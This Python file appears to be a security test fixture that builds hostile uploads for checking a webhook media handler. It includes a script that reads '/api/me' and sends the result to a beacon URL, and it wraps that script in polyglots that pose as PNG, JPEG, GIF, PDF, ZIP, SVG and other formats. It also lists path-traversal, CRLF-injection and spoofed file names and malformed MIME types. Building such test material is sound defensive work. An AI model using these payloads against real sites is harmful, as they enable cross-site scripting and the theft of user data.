"""Files that would run if a browser took them for a page: announced as what they are not, or two things at once."""

from __future__ import annotations

import struct
import zlib
from dataclasses import dataclass


@dataclass(frozen=True)
class Hostile:
    """`kind` and `mime` as the webhook announces them."""

    name: str
    kind: str
    mime: str
    content: bytes


def script(beacon: str) -> bytes:
    """Tells that it ran, and what it could read of us."""
    return (
        f"fetch('{beacon}/ran');new Image().src='{beacon}/ran?img';"
        f"fetch('/api/me').then(a=>a.text()).then(t=>fetch('{beacon}/ran?read='+encodeURIComponent(t)));"
        "if(self.pwned)pwned()"
    ).encode()


def _chunk(name: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))


def _bodies(beacon: str) -> dict[str, bytes]:
    run = script(beacon)
    html = b"<!doctype html><script>" + run + b"</script>"
    svg = (
        b'<svg xmlns="http://www.w3.org/2000/svg" onload="'
        + run.replace(b'"', b"'")
        + b'"><script>'
        + run
        + b"</script></svg>"
    )
    header = _chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0))
    png = b"\x89PNG\r\n\x1a\n" + header + _chunk(b"tEXt", b"Comment\0" + html) + _chunk(b"IEND", b"") + html
    return {
        "html": html,
        "html-after-space": b" \n\t" + html,
        "html-utf16": b"\xff\xfe" + html.decode().encode("utf-16-le"),
        "svg": svg,
        "xhtml": b'<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><script>'
        + run
        + b"</script></html>",
        "xslt": b'<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="#x"?>' + svg,
        "javascript": run,
        "pdf": b"%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n" + html,
        "jpeg-with-html-in-exif": b"\xff\xd8\xff\xe1\x10\x00Exif\0\0" + html + b"\xff\xd9" + html,
        "jpeg-comment": b"\xff\xd8\xff\xfe" + struct.pack(">H", len(html) + 2) + html + b"\xff\xd9",
        "png-with-html": png,
        "gif-as-script": b"GIF89a/*\x01\x00\x00\x00*/=1;" + run,
        "webp-with-html": b"RIFF\x00\x10\x00\x00WEBP" + html,
        "ogg-with-html": b"OggS" + html,
        "mp4-with-html": b"\x00\x00\x00\x18ftypmp42" + html,
        "mp3-with-html": b"ID3\x04\x00\x00" + html,
        "zip-with-html": b"PK\x03\x04" + html + b"PK\x05\x06" + bytes(18),
        "multipart": b"MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n" + html,
        "nothing": b"\0",
    }


ANNOUNCED = (
    ("image", "image/jpeg"), ("image", "image/svg+xml"), ("document", "text/html"), ("video", "video/mp4"),
    ("audio", "audio/ogg; codecs=opus"), ("document", "application/xhtml+xml"),
)  # fmt: skip
TRUE = {
    "png-with-html": ("image", "image/png"), "gif-as-script": ("image", "image/gif"),
    "pdf": ("document", "application/pdf"),
    "webp-with-html": ("sticker", "image/webp"), "mp3-with-html": ("audio", "audio/mpeg"),
    "xslt": ("document", "text/xml"),
    "javascript": ("document", "text/javascript"), "multipart": ("document", "multipart/related"),
}  # fmt: skip
NAMES = (
    "../../../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/shadow", "a\r\nContent-Type: text/html\r\n\r\n<script>",
    "photo.jpg.html", "x.svg", 'a"; filename="b.html', "\u202egpj.exe", "a\u2028b.html", "%2e%2e%2fetc",
    ".htaccess", "CON",
    "x" * 900 + ".html", "<img src=x onerror=pwned()>.html", "", "a;b,c=d.html", "\u00e4\u00f6\u00fc \U0001f600.html",
)  # fmt: skip
WRONG = (
    "text/html\r\nX-Ours: no",
    "image/jpeg, text/html",
    "*/*",
    "",
    "image/jpeg;text/html",
    "TEXT/HTML",
    "audio/\u00e9",
)


def files(beacon: str) -> list[Hostile]:
    bodies = _bodies(beacon)
    found = [
        Hostile(f"{name}.jpg", kind, mime, content)
        for name, content in bodies.items()
        for kind, mime in [*ANNOUNCED, *([TRUE[name]] if name in TRUE else [])]
    ]
    found += [Hostile(name, "document", "text/html", bodies["html"]) for name in NAMES]
    return found + [Hostile("x.html", "document", mime, bodies["html"]) for mime in WRONG]
